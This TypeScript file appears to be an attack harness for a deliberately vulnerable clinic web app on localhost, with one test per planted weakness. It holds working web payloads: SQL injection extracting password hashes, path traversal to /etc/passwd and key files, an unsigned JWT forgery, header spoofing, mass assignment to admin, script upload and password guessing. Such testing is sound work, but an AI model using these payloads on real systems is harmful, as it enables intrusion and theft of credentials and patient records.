import { connect } from 'node:net';
import type { Weakness } from './weaknesses.ts';

/** A running clinic, attacked directly. */
export class Target {
  readonly base: string;
  /** What was answered with 5xx. */
  readonly failures: string[] = [];
  readonly #tokens = new Map<string, Promise<string>>();

  /** @param base `http://127.0.0.1:3000` */
  constructor(base: string) {
    this.base = base;
  }

  /** The access token of a user, who logs in once. Rejects where that fails. */
  token(username: keyof typeof PASSWORDS): Promise<string> {
    let token = this.#tokens.get(username);
    if (token === undefined) {
      token = this.#login(username);
      this.#tokens.set(username, token);
    }
    return token;
  }

  async #login(username: keyof typeof PASSWORDS): Promise<string> {
    const { status, json } = await this.ask('POST', '/login', { body: { username, password: PASSWORDS[username] } });
    if (status !== 200) throw new Error(`login of ${username}: ${status}`);
    return json.accessToken;
  }

  async ask(
    method: string,
    path: string,
    options: {
      as?: keyof typeof PASSWORDS;
      headers?: Record<string, string>;
      body?: unknown;
      raw?: string | FormData;
    } = {},
  ): Promise<{ status: number; text: string; headers: Headers; json: ReturnType<typeof JSON.parse> }> {
    const headers = new Headers(options.headers);
    if (options.as !== undefined) headers.set('authorization', `Bearer ${await this.token(options.as)}`);
    const init: RequestInit = { method, headers, body: options.raw ?? null };
    if (options.body !== undefined) {
      headers.set('content-type', 'application/json');
      init.body = JSON.stringify(options.body);
    }
    const response = await fetch(this.base + path, init);
    const text = await response.text();
    if (response.status >= 500) this.failures.push(`${method} ${path}: ${response.status}`);
    let json: unknown;
    try {
      json = JSON.parse(text);
    } catch {
      json = undefined;
    }
    return { status: response.status, text, headers: response.headers, json };
  }

  /** Speaks HTTP by hand, for what no client would send. @returns the first line of the answer. */
  async firstLine(message: string): Promise<string> {
    const { hostname, port } = new URL(this.base);
    const socket = connect(Number(port), hostname);
    try {
      let answer = '';
      socket.end(message);
      for await (const chunk of socket) answer += chunk;
      return answer.split('\r\n', 1)[0] ?? '';
    } finally {
      socket.destroy();
    }
  }
}

/** Some of the made-up users, one and more a role. */
export const PASSWORDS = {
  'amina.okoro': 'river-maple-41',
  'jonas.brandt': 'candle-orchard-7',
  'lucia.ferreira': 'sunshine1',
  'samuel.boateng': 'winter-saddle-64',
  'yusuf.demir': 'ginger-compass-70',
  'vera.lindqvist': 'scalpel-orbit-2291',
  'nils.hofmann': 'bandage-comet-3906',
  'paul.weiss': 'ledger-walnut-6058',
  'arthur.quinn': 'keyring-monsoon-9274',
} as const;

const UNION = "zz' UNION SELECT id,username,password_hash,role,5 FROM staff--";
const GUESSES = [
  '123456',
  'password',
  'qwerty',
  'letmein',
  'welcome1',
  'samuel',
  'boateng',
  PASSWORDS['samuel.boateng'],
];

/** One attack (of one or more parts) for each weakness; `true` for each part that got through. */
export const ATTACKS: Readonly<Record<Weakness, (clinic: Target) => Promise<boolean[]>>> = {
  'sql-injection': async (clinic) => {
    const get = (query: string) => clinic.ask('GET', `/patients?${query}`, { as: 'nils.hofmann' });
    const union = await get(new URLSearchParams({ search: UNION }).toString());
    const order = async (letter: string) => {
      const guess = `(SELECT substr(password_hash,2,1) FROM staff WHERE id=1)='${letter}'`;
      const sorted = await get(new URLSearchParams({ sort: `CASE WHEN ${guess} THEN id ELSE -id END` }).toString());
      return sorted.json?.items?.[0]?.id;
    };
    const [right, wrong] = [await order('a'), await order('b')];
    return [union.text.includes('$argon2id$'), right !== undefined && right !== wrong];
  },
  'no-ownership': async (clinic) => {
    const paths = [
      '/patients/2',
      '/patients/2/prescriptions',
      '/prescriptions/3b5e9a72-1c0d-4f8b-8e24-6d9c41a7e502',
      '/invoices/INV-2026-0002',
      '/appointments/2',
      '/documents?patientId=2',
      '/documents/0c95d2e7-f4b6-4831-9d7a-e28c53a1f642',
    ];
    const answers = await Promise.all(paths.map((path) => clinic.ask('GET', path, { as: 'lucia.ferreira' })));
    const lists = ['/appointments', '/invoices', '/invoices?patientId=2'].map(async (path) => {
      const { json } = await clinic.ask('GET', path, { as: 'lucia.ferreira' });
      return json.items.some((item: { patientId: number }) => item.patientId === 2);
    });
    const change = await clinic.ask('PATCH', '/patients/4', { as: 'lucia.ferreira', body: { phone: '+1 555 0166' } });
    return [...answers.map(({ status }) => status === 200), ...(await Promise.all(lists)), change.status === 200];
  },
  'missing-role': async (clinic) => {
    const as = 'lucia.ferreira';
    const staff = await clinic.ask('GET', '/staff', { as });
    const all = await clinic.ask('GET', '/export/patients', { as });
    const body = { patientId: 3, medicine: 'Oxycodone', dose: '20 mg', expiresOn: '2027-01-01', repeats: 12 };
    const prescribed = await clinic.ask('POST', '/prescriptions', { as, body });
    return [staff.status === 200, all.text.includes('Jonas Brandt'), prescribed.status === 201];
  },
  'over-sharing': async (clinic) => {
    const own = await clinic.ask('GET', '/patients/3', { as: 'lucia.ferreira' });
    const me = await clinic.ask('GET', '/me', { as: 'lucia.ferreira' });
    const colleague = await clinic.ask('GET', '/staff/1', { as: 'nils.hofmann' });
    return [
      own.text.includes('password_hash'),
      own.text.includes('900-13-1188'),
      me.text.includes('password_hash'),
      colleague.text.includes('salary'),
    ];
  },
  'stack-traces': async (clinic) => {
    const broken = await clinic.ask('POST', '/login', {
      headers: { 'content-type': 'application/json' },
      raw: '{"username": ',
    });
    const body = { patientId: 3, staffId: 424_242, startsAt: '2026-12-01T09:00:00Z', minutes: 20, reason: 'Cough' };
    const foreign = await clinic.ask('POST', '/appointments', { as: 'lucia.ferreira', body });
    return [/ at .*application\.ts/.test(broken.text), foreign.text.includes('INSERT INTO appointments')];
  },
  'mass-assignment': async (clinic) => {
    const as = 'yusuf.demir';
    await clinic.ask('PATCH', '/patients/12', { as, body: { phone: '+1 555 0113', role: 'admin', balanceCents: 1 } });
    const me = await clinic.ask('GET', '/me', { as });
    const own = await clinic.ask('GET', '/patients/12', { as });
    return [me.json.roles.includes('admin'), own.json.balanceCents === 1];
  },
  'unknown-methods': async (clinic) => {
    const purged = await clinic.ask('PURGE', '/patients/3', { as: 'lucia.ferreira' });
    const invented = await clinic.firstLine('FOO /patients/3 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
    return [purged.status === 200, invented.startsWith('HTTP/1.1 200')];
  },
  'no-limits': async (clinic) => {
    const page = await clinic.ask('GET', '/patients?limit=1000000', { as: 'nils.hofmann' });
    const long = await clinic.ask('POST', '/login', { body: { username: 'x', password: 'x'.repeat(1_000_000) } });
    return [page.status === 200, long.status !== 413];
  },
  'no-validation': async (clinic) => {
    const refund = await clinic.ask('POST', '/invoices/INV-2026-0003/payments', {
      as: 'paul.weiss',
      body: { amountCents: -50_000, method: 'favour' },
    });
    const soon = await clinic.ask('POST', '/appointments', {
      as: 'lucia.ferreira',
      body: { patientId: 3, staffId: 1, startsAt: 'soon', minutes: -5, reason: '' },
    });
    return [refund.json?.paidCents === -50_000, soon.status === 201];
  },
  'path-traversal': async (clinic) => {
    const get = async (name: string) =>
      (await clinic.ask('GET', `/documents/download?name=${encodeURIComponent(name)}`, { as: 'nils.hofmann' })).text;
    return [
      (await get('../../../etc/passwd')).includes('root:x:0:0'),
      (await get('../signing-key.json')).includes('"d":'),
      (await get('..\\clinic.env')).includes('DATABASE_PASSWORD'),
    ];
  },
  'upload-anything': async (clinic) => {
    const form = new FormData();
    form.set('kind', 'letter');
    form.set('file', new File(['<script>alert(document.domain)</script>'], 'page.html', { type: 'text/html' }));
    const upload = await clinic.ask('POST', '/patients/3/documents', { as: 'lucia.ferreira', raw: form });
    const open = await clinic.ask('GET', `/documents/${upload.json?.id}/content`, { as: 'nils.hofmann' });
    const lie = new FormData();
    lie.set('kind', 'image');
    lie.set('file', new File(['MZ no picture'], 'x-ray.png', { type: 'image/png' }));
    const lied = await clinic.ask('POST', '/patients/3/documents', { as: 'lucia.ferreira', raw: lie });
    return [upload.status === 201, open.headers.get('content-type') === 'text/html', lied.status === 201];
  },
  'weak-login': async (clinic) => {
    let status = 0;
    for (const password of GUESSES) {
      ({ status } = await clinic.ask('POST', '/login', { body: { username: 'samuel.boateng', password } }));
    }
    return [status === 200];
  },
  'user-enumeration': async (clinic) => {
    const guess = async (username: string) => {
      const { status, json } = await clinic.ask('POST', '/login', { body: { username, password: 'wrong' } });
      return `${status} ${json.detail.replaceAll(username, 'NAME')}`;
    };
    return [(await guess('priya.raman')) !== (await guess('nobody.known'))];
  },
  'no-authentication': async (clinic) => {
    const paths = ['/patients', '/patients/2', '/appointments', '/patients/2/prescriptions'];
    return Promise.all(paths.map(async (path) => (await clinic.ask('GET', path)).status === 200));
  },
  'trusts-headers': async (clinic) => {
    const headers = { 'x-portcullis-principal': 'mallory', 'x-portcullis-roles': 'admin' };
    const me = await clinic.ask('GET', '/me', { headers });
    const change = await clinic.ask('PATCH', '/staff/10', { headers, body: { department: 'Nobody is safe' } });
    const claims = Buffer.from('{"patientId":2}').toString('base64url');
    const own = await clinic.ask('POST', '/appointments', {
      headers: { ...headers, 'x-portcullis-roles': 'patient', 'x-portcullis-claims': claims },
      body: { patientId: 2, staffId: 1, startsAt: '2026-12-02T09:00:00Z', minutes: 20, reason: 'Not me' },
    });
    return [me.json?.principal === 'mallory', change.status === 200, own.status === 201];
  },
  'unsigned-tokens': async (clinic) => {
    const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
    const token = `${encode({ alg: 'none', typ: 'at+jwt' })}.${encode({ sub: 'staff:9', roles: ['admin'] })}.`;
    const { status } = await clinic.ask('GET', '/staff', { headers: { authorization: `Bearer ${token}` } });
    return [status === 200];
  },
  predictable: async (clinic) => {
    const body = { patientId: 3, medicine: 'Ibuprofen', dose: '400 mg', expiresOn: '2027-01-01' };
    const create = async () => {
      const { json } = await clinic.ask('POST', '/prescriptions', { as: 'vera.lindqvist', body });
      return BigInt(`0x${json.id.replaceAll('-', '')}`);
    };
    const [first, second] = [await create(), await create()];
    return [second - first === 1n];
  },
  'cors-any': async (clinic) => {
    const origin = 'https://evil.example';
    const simple = await clinic.ask('GET', '/health', { headers: { origin } });
    const preflight = await clinic.ask('OPTIONS', '/patients/2', {
      headers: { origin, 'access-control-request-method': 'DELETE' },
    });
    return [simple, preflight].map(({ headers }) => headers.get('access-control-allow-origin') === origin);
  },
  'verbose-errors': async (clinic) => {
    const { headers, text } = await clinic.ask('GET', '/nothing');
    return [headers.has('x-powered-by'), /node\/\d/.test(headers.get('server') ?? ''), /sqlite\/\d/.test(text)];
  },
};
